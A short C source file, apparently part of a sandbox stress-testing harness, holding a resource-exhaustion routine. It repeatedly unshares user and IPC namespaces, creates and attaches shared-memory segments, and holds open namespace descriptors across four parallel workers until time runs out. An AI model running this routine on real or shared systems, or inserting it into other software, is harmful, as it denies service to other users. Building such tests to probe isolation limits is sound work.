// Takes all the descriptors of whoever serves: segments in one IPC namespace after the other, each
// kept.
#include "attack.h"

static void take_for_ever(void* unused, int number) {
  (void)unused;
  (void)number;
  if (unshare(CLONE_NEWUSER | CLONE_NEWIPC) != 0) return;
  while (!time_is_up()) {
    for (int made = 0; made < 2000; ++made) {
      const int id = make_segment(1, 0600);
      if (id < 0) break;
      if (made % 4 == 0) (void)shm_at(id, NULL, 0);
    }
    if (open("/proc/self/ns/ipc", O_RDONLY) < 0 || unshare(CLONE_NEWIPC) != 0) break;
  }
  while (!time_is_up()) {
    make_segment(1, 0600);
    pause_for(0.001);
  }
}

void attack_descriptors(void) {
  crowd(4, take_for_ever, NULL);
  wait_for_crowd();
}
